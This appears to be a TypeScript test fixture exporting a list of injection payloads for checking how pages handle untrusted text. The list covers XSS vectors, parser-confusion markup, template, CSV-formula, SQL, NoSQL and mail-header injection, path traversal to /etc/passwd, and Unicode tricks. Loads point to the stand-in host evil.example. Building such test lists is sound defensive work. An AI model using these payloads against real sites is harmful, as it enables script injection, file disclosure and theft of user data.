const HIT = 'hit=1';
const HOST = '//evil.example';

/** Elements whose handlers run without a click. */
const HANDLERS = [
  'img src=x onerror',
  'svg onload',
  'body onload',
  'video src=x onerror',
  'video><source onerror',
  'input autofocus onfocus',
  'details open ontoggle',
  'marquee onstart',
  'iframe onload',
  'style onload',
  'script src=x onerror',
  'p style=animation:x onanimationstart',
];

/** How markup gets past filters: quotes, capitals, separators, what ends an attribute or a text before it. */
const BEFORE: ((element: string) => string)[] = [
  (element) => `<${element}=${HIT}>`,
  (element) => `"><${element}=${HIT}>`,
  (element) => `'><${element.toUpperCase()}=${HIT}>`,
];

const ELEMENTS = [
  `<script>${HIT}</script>`,
  `<script src=${HOST}/x.js></script>`,
  `<scr<script>ipt>${HIT}</scr</script>ipt>`,
  `</script><script>${HIT}</script>`,
  `</title><script>${HIT}</script>`,
  `<script type=module>${HIT}</script>`,
  `<iframe src=${HOST}></iframe>`,
  `<iframe srcdoc='<script>parent.${HIT}</script>'>`,
  `<object data=${HOST}></object>`,
  `<base href=${HOST}/>`,
  `<meta http-equiv=refresh content='0;url=${HOST}'>`,
  `<link rel=stylesheet href=${HOST}/x.css>`,
  `<form action=${HOST}><button>a</button></form>`,
  `<img src=${HOST}/x.png>`,
  `<body background=${HOST}/x.png>`,
  '<b data-hit>gras</b>',
  '<a data-hit href=#>lien</a>',
  '<plaintext>',
  '<!--',
  `<template><script>${HIT}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
];

const ATTRIBUTES = [
  `" onmouseover=${HIT} x="`,
  `" autofocus onfocus=${HIT} "`,
  '" data-hit="',
  '` data-hit `',
  `" style="background:url(${HOST})`,
  `x" href="javascript:${HIT}`,
  `"/onerror=${HIT}//`,
  `&quot; onload=${HIT} &quot;`,
];

const ADDRESSES = [
  `javascript:${HIT}`,
  `JaVaScRiPt:${HIT}`,
  `javascript&colon;${HIT}`,
  `java\tscript:${HIT}`,
  `data:text/html,<script>parent.${HIT}</script>`,
  'data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==',
  `data:image/svg+xml,<svg onload=${HIT}>`,
  `blob:https:${HOST}/x`,
  `${HOST}/x`,
  `/\\evil.example`,
  `/x"onerror=${HIT}//`,
  `/"><img/src/onerror=${HIT}>`,
  `/a.png#'onerror='${HIT}`,
  `/a.png);background:url(${HOST}`,
];

const STYLES = [
  `<style>*{background:url(${HOST})}</style>`,
  `<style>@import '${HOST}/x.css'</style>`,
  `<div style=background:url(${HOST})>`,
  `}*{background:url(${HOST})}`,
  `url(${HOST}/x.png)`,
  `#fff;--x:url(${HOST})`,
  `image-set('${HOST}/x.png' 1x)`,
];

/** What one parser reads as a text and the next one as markup. */
const PARSERS = [
  `<svg><style><img src=x onerror=${HIT}></style></svg>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><a xlink:href=javascript:${HIT}><text>a</text></a></svg>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  `<svg><use href='data:image/svg+xml,<svg id=x onload=${HIT}>#x'>`,
  `<svg><foreignObject><iframe onload=${HIT}></foreignObject>`,
  `<svg></p><style><a title="</style><img src onerror=${HIT}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${HIT}>`,
  `<math><annotation-xml encoding=text/html><img src=x onerror=${HIT}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${HIT}>`,
  `<table><td><p><table><img src=x onerror=${HIT}>`,
  `&lt;img src=x onerror=${HIT}&gt;`,
  `&#60;script&#62;${HIT}&#60;/script&#62;`,
  `%3Cscript%3E${HIT}%3C/script%3E`,
  `\\u003cscript\\u003e${HIT}\\u003c/script\\u003e`,
  `＜script＞${HIT}＜/script＞`,
  `<ſcript>${HIT}</ſcript>`,
];

const TEMPLATES = [
  '{{constructor.constructor("hit=1")()}}',
  `$${'{hit=1}'}`,
  '<%= hit=1 %>',
  `[[$${'{7*7}'}]]`,
  '%s%s%n%x',
  '$&$1$`',
  '__proto__',
  '[lien](javascript:hit=1)',
  '![image](//evil.example/x.png)',
  '**gras** <b data-hit>',
];

/** What leaves another format: JSON, CSV, mails, documents, queries. */
const DATA = [
  '"},{"hit":1,"x":"',
  ']]></script><script>hit=1</script>',
  '\\"; hit=1; //',
  '{"@context":"x"}</script><b data-hit>',
  '=HYPERLINK("//evil.example")',
  '+cmd|" /C calc"!A0',
  'a;b;"c";\'d\'',
  'x%0d%0aBcc:x@evil.example',
  '#let x = read("/etc/passwd")',
  '#link("//evil.example")[a]',
  '$ integral $ #pagebreak()',
  ') Tj ET /URI (//evil.example)',
  '\\input{/etc/passwd}',
  '$where: sleep(1)',
  '{"$gt":""}',
  "' OR '1'='1",
  '../../../etc/passwd',
];

const CHARACTERS = [
  'a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301<b data-hit>',
  '👩🏽‍⚕️'.replaceAll('\u200d', ''),
  'ﬁ ﬂ œ ß İ ı',
  '𝕊𝕔𝕣𝕚𝕡𝕥 <𝕓>',
  'نص عربي <b data-hit>',
  '\u202egpj.exe',
  '\u200b<script>hit=1</script>',
  'a\u0000<b data-hit>',
  '\u00ad<b data-hit>',
];

/**
 * Texts that become code in careless pages. What executes sets `window.hit`, what becomes markup has an attribute or a name
 * `data-hit`, and what loads anything loads it from `evil.example`.
 */
export const PAYLOADS: readonly string[] = [
  ...BEFORE.flatMap((write) => HANDLERS.map(write)),
  ...ELEMENTS,
  ...ATTRIBUTES,
  ...ADDRESSES,
  ...STYLES,
  ...PARSERS,
  ...TEMPLATES,
  ...DATA,
  ...CHARACTERS,
];
